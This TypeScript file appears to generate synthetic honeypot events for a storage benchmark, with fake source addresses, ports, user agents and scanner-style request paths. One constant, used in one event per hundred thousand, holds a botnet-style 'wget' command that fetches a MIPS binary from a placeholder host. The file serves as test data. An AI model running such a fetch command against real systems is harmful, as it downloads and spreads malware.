import type { StoreEvent } from "../../server/store/store-writer.ts";
import { asGoWrites, capturedEvent } from "./batches.ts";

/*
 * Enriched events for the benchmark of the store: captured events whose fields vary as they do over some weeks. Some sources
 * send much and most send little; each has a country and an AS; text, paths and user agents are repeated, with a part that
 * changes.
 */

const sourceCount = 120_000;
const sensorCount = 24;
const countries = "CN US RU NL DE BR IN VN KR FR GB UA SG HK ID TW IR PL RO BG".split(" ");
const ports = [22, 23, 80, 443, 8080, 2222, 3389, 6379, 5900, 445];
const names = ["root", "admin", "ubuntu", "pi", "oracle", "test", "user", "guest"];
const agents = ["zgrab/0.x", "curl/8.4.0", "Go-http-client/1.1", "python-requests/2.31"];
/** In one event of a hundred thousand. */
export const rareText = "wget http://198.51.100.77/bins/mips";
const rareEvery = 100_000;

/** Events in the order in which they were received, evenly over a time. */
export function* storeEvents(count: number, from: number, durationMs: number): Generator<StoreEvent> {
  for (let i = 0; i < count; i++) {
    const receivedAt = Math.floor(from + (durationMs * i) / count);
    const document = Buffer.from(asGoWrites(JSON.stringify(eventOf(i, receivedAt))));
    yield { sequence: i + 1, receivedAt, sensorId: `vps-${below(sensorCount)}`, document };
  }
}

/** The address of one of the sources; the first are the most frequent. */
export function addressOfSource(source: number): string {
  const bits = Math.imul(source + 1, 0x9e3779b1) >>> 0;
  if (source % 16 === 0) return `2001:db8:${(bits >>> 16).toString(16)}::${(bits & 0xffff).toString(16)}`;
  return `${1 + ((bits >>> 24) % 223)}.${(bits >>> 16) & 255}.${(bits >>> 8) & 255}.${bits & 255}`;
}

function eventOf(i: number, receivedAt: number): object {
  const captured = capturedEvent(i);
  const source = Math.floor(sourceCount * Math.random() ** 4);
  const request = requestOf(i, source);
  return {
    ...captured,
    "@timestamp": new Date(receivedAt).toISOString(),
    destination: { ip: "203.0.113.7", port: Math.random() < 0.8 ? pick(ports) : below(65_536) },
    event: {
      ...captured.event,
      id: crypto.randomUUID(),
      original_payload_hex: Buffer.from(request).toString("hex"),
      summary: request.slice(0, 120),
    },
    network: { ...captured.network, community_id: `1:${randomBase64(20)}` },
    source: {
      ip: addressOfSource(source),
      port: 1024 + below(64_512),
      as: { number: 1_000 + (source % 3_000), organization: { name: `Example Network ${source % 3_000}` } },
      geo: { country_iso_code: countries[Math.floor(Math.sqrt(source % 400))], country_name: "Example" },
    },
    url: { path: pathOf(i) },
    user_agent: { original: `${pick(agents)} (${source % 50})` },
    tags: source % 5 === 0 ? ["scanner", source % 10 === 0 ? "shodan" : "censys"] : undefined,
  };
}

function requestOf(i: number, source: number): string {
  const command = i % rareEvery === 5 ? rareText : `GET ${pathOf(i)}?id=${below(1e6)}`;
  return `${command} HTTP/1.1\r\nHost: 203.0.113.7\r\nAuthorization: Basic ${Buffer.from(
    `${pick(names)}:${source % 997}`,
  ).toString("base64")}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n`;
}

function pathOf(i: number): string {
  return i % 3 === 0
    ? `/cgi-bin/${i % 1_000}/login.php`
    : pick(["/.env", "/", "/wp-login.php", "/boaform/admin"]);
}

function randomBase64(bytes: number): string {
  return Buffer.from(Array.from({ length: bytes }, () => below(256))).toString("base64");
}

function pick<Item>(items: readonly Item[]): Item {
  return items[below(items.length)] as Item;
}

function below(limit: number): number {
  return Math.floor(Math.random() * limit);
}
